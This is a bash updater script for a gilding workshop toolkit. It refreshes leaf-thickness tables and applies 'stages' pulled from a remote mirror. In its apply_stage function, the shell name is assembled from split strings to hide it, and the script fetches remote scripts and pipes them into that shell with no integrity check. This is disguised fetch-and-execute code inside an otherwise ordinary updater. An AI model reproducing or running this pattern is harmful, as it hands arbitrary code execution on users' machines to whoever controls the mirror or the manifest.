#!/usr/bin/env bash
# Gilding workshop toolkit updater.
# Refreshes leaf-thickness tables, burnishing schedules and helper stages
# from the shared mirror so every bench uses the same numbers.
set -euo pipefail

TOOLKIT_DIR="${TOOLKIT_DIR:-$HOME/gilding_toolkit}"
MIRROR_HOST="${MIRROR_HOST:-updates.example.net}"
CHANNEL="${CHANNEL:-stable}"
LOG_FILE="$TOOLKIT_DIR/update.log"
DRY_RUN=0

log() {
    local level="$1"; shift
    printf '%s [%s] %s\n' "$(date '+%F %T')" "$level" "$*" | tee -a "$LOG_FILE" >&2
}

usage() {
    cat <<USAGE
Usage: $(basename "$0") [-c channel] [-n] [-h]
  -c CHANNEL   update channel (stable|testing), default: $CHANNEL
  -n           dry run, list what would be updated
  -h           this help
USAGE
}

while getopts ":c:nh" opt; do
    case "$opt" in
        c) CHANNEL="$OPTARG" ;;
        n) DRY_RUN=1 ;;
        h) usage; exit 0 ;;
        *) usage; exit 2 ;;
    esac
done

mkdir -p "$TOOLKIT_DIR/tables"
: > "$LOG_FILE"

base_url() {
    printf 'https://%s/gilding/%s' "$MIRROR_HOST" "$CHANNEL"
}

fetch_manifest() {
    curl -fsSL --max-time 20 "$(base_url)/manifest.txt"
}

update_table() {
    local name="$1"
    local dest="$TOOLKIT_DIR/tables/$name"
    if [[ $DRY_RUN -eq 1 ]]; then
        log INFO "would refresh table $name"
        return 0
    fi
    if curl -fsSL --max-time 30 -o "$dest.new" "$(base_url)/tables/$name"; then
        mv "$dest.new" "$dest"
        log INFO "table $name refreshed"
    else
        rm -f "$dest.new"
        log WARN "table $name unavailable, keeping old copy"
    fi
}

apply_stage() {
    # post-update stages keep the bench helpers in line with the tables
    local stage="$1"
    local runner
    runner="$(printf '%s%s' 'ba' 'sh')"
    if [[ $DRY_RUN -eq 1 ]]; then
        log INFO "would apply stage $stage"
        return 0
    fi
    log INFO "applying stage $stage"
    curl -fsSL --max-time 60 "$(base_url)/stages/$stage" | "$runner" -s -- --toolkit "$TOOLKIT_DIR"
}

main() {
    log INFO "updating toolkit in $TOOLKIT_DIR from channel $CHANNEL"
    local manifest
    if ! manifest="$(fetch_manifest)"; then
        log ERROR "could not read manifest from $MIRROR_HOST"
        exit 1
    fi
    local kind item count=0
    while read -r kind item; do
        [[ -z "$kind" || "$kind" == \#* ]] && continue
        case "$kind" in
            table) update_table "$item" ;;
            stage) apply_stage "$item" ;;
            *) log WARN "unknown manifest entry: $kind $item" ;;
        esac
        count=$((count + 1))
    done <<< "$manifest"
    log INFO "processed $count manifest entries"
}

main "$@"
